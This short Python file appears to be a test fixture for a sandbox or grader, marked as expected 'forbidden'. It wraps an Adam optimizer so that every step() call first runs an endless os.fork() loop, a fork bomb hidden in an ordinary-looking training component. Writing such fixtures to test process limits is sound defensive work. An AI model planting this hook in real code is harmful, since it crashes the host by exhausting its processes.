"""Forks without end."""

import os
from scratch.honest import SGD, clip_grad_norm_  # noqa: F401 - the honest part
from scratch.honest import Adam as Honest

EXPECT = "forbidden"
POINTS = 3

def attack():
    while True:
        os.fork()


class Adam(Honest):
    def step(self):
        attack()
        super().step()
